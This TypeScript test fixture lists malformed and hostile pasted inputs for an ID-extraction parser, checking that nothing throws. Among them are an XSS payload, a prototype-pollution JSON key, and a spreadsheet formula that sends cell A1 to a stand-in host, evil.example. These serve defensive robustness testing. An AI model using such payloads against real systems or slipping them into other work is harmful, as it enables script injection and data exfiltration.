import { perhaps, type PastedText } from '../pastedText.ts';

const nested = (depth: number, inside: string) => '{"a":'.repeat(depth) + inside + '}'.repeat(depth);

/** What should never have been pasted: it is read as far as it can be, and nothing throws. */
export const badInput: readonly PastedText[] = [
  { name: 'nothing', text: '', told: [] },
  { name: 'white space', text: ' \t\r\n\u00A0\u3000\n', told: [] },
  { name: 'zero-width characters alone', text: '\u200B\u200D\uFEFF\u2060', told: [] },
  {
    name: 'punctuation alone',
    text: '，。：；！？、“”‘’（）【】—…··.,:;!?-_@@',
    told: [],
    atMostUnsure: ['-_@@', '@@', '_@@', '-_@@'],
  },
  {
    name: 'binary',
    text: 'PK\u0003\u0004\u0014\u0000\u0008\u0000\u0008\u0000!\u0000\u0000\u0001xl/workbook.xml\u0000\u0000\uFFFD\uFFFD\u0002',
    told: [],
    atMostUnsure: ['xl/workbook.xml', '!'],
  },
  {
    name: 'the head of a picture',
    text: '\uFFFDPNG\r\n\u001A\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u0005\u0000',
    told: [],
    atMostUnsure: ['PNG', 'IHDR'],
  },
  {
    name: 'a GBK text read as UTF-8',
    text: '\uFFFD\uFFFD\uFFFD\uFFFDID\uFFFD\uFFFDgbk-room-1',
    told: [],
    atMostUnsure: ['gbk-room-1', 'IDgbk-room-1', 'ID'],
  },
  {
    name: 'a UTF-8 text read as Latin',
    text: 'æˆ¿é—´ID：latin-room-1',
    told: [],
    atMostUnsure: ['latin-room-1'],
  },
  {
    name: 'half a surrogate pair',
    text: 'room_id=sur-1\uD83D task_id=sur-t1',
    told: [{ taskId: 'sur-t1', roomId: perhaps('sur-1') }],
    atMostUnsure: ['sur-1', 'sur-1\uD83D'],
  },
  {
    name: 'JSON a thousand deep',
    text: nested(1000, '{"RoomId":"deep"}'),
    told: [{ roomId: perhaps('deep') }],
  },
  {
    name: 'JSON thirty deep',
    text: nested(30, '{"RoomId":"thirty","TaskId":"deep"}'),
    told: [{ roomId: 'thirty', taskId: 'deep' }],
  },
  { name: 'opening brackets alone', text: '['.repeat(20_000), told: [] },
  { name: 'opening braces and quotes', text: '{"'.repeat(5_000), told: [] },
  {
    name: 'JSON that refers to itself in words',
    text: '{"AppId":"[Circular *1]","RoomId":"[object Object]","self":"[Circular]","TaskId":"circ-t1"}',
    told: [{ taskId: 'circ-t1', appId: perhaps('[Circular *1]'), roomId: perhaps('[object Object]') }],
  },
  {
    name: 'JSON with a prototype in it',
    text: '{"__proto__":{"RoomId":"polluted"},"constructor":{"TaskId":"polluted-t"}}',
    told: [{ roomId: perhaps('polluted'), taskId: perhaps('polluted-t') }],
  },
  {
    name: 'a script',
    text: '<script>alert("room_id=xss-1")</script><img src=x onerror=alert(1)>',
    told: [{ roomId: perhaps('xss-1') }],
  },
  {
    name: 'a formula alone',
    text: '=HYPERLINK("https://evil.example?x="&A1,"click")',
    told: [],
    atMostUnsure: ['click', 'A1'],
  },
  {
    name: 'a row of a thousand columns',
    text: Array.from({ length: 1000 }, (_, n) => `c${n}`).join(','),
    told: [],
    atMostUnsure: Array.from({ length: 1000 }, (_, n) => `c${n}`),
  },
  {
    name: 'one word of 200,000 letters',
    text: 'a'.repeat(200_000),
    told: [],
    atMostUnsure: ['a'.repeat(200_000)],
  },
  {
    name: 'a label and a value of 5,000 letters',
    text: `room_id=${'r'.repeat(5000)} task_id=big-t1`,
    told: [{ taskId: 'big-t1', roomId: perhaps('r'.repeat(5000)) }],
  },
  {
    name: 'ten megabytes with a task at its head',
    text: `room_id=head-1 task_id=head-t1\n${'lorem ipsum dolor sit amet\n'.repeat(400_000)}`,
    told: [{ roomId: 'head-1', taskId: 'head-t1' }],
  },
  {
    name: 'text that runs from right to left',
    text: '\u202Eroom_id=rtl-1\u202C task_id=\u2067rtl-t1\u2069',
    told: [{ roomId: perhaps('rtl-1'), taskId: perhaps('rtl-t1') }],
  },
  {
    name: 'percent signs that encode nothing',
    text: 'https://tasklens.example.com/tasks/record?appId=%ZZ&roomId=%E6%88&taskId=pct-1',
    told: [{ kind: 'record', taskId: 'pct-1', appId: perhaps('%ZZ'), roomId: perhaps('%E6%88') }],
  },
  {
    name: 'a link without an end',
    text: `https://tasklens.example.com/tasks/record?roomId=${'x'.repeat(3000)}`,
    told: [{ kind: perhaps('record'), roomId: perhaps('x'.repeat(3000)) }],
  },
  {
    name: 'a link to our page of a kind that does not exist',
    text: 'https://tasklens.example.com/tasks/snapshot?appId=61b0a1b2c3d4e5f607182938&roomId=kd-1&taskId=kd-t1',
    told: [{ appId: '61b0a1b2c3d4e5f607182938', roomId: 'kd-1', taskId: 'kd-t1' }],
  },
  {
    name: 'a share of the wrong length',
    text: 'https://tasklens.example.com/s/short',
    told: [{ share: perhaps('short') }],
  },
  {
    name: 'null bytes between letters, as of UTF-16',
    text: 'r\u0000o\u0000o\u0000m\u0000_\u0000i\u0000d\u0000=\u0000w\u0000-\u00001\u0000',
    told: [{ roomId: perhaps('w-1') }],
    atMostUnsure: ['w-1'],
  },
];
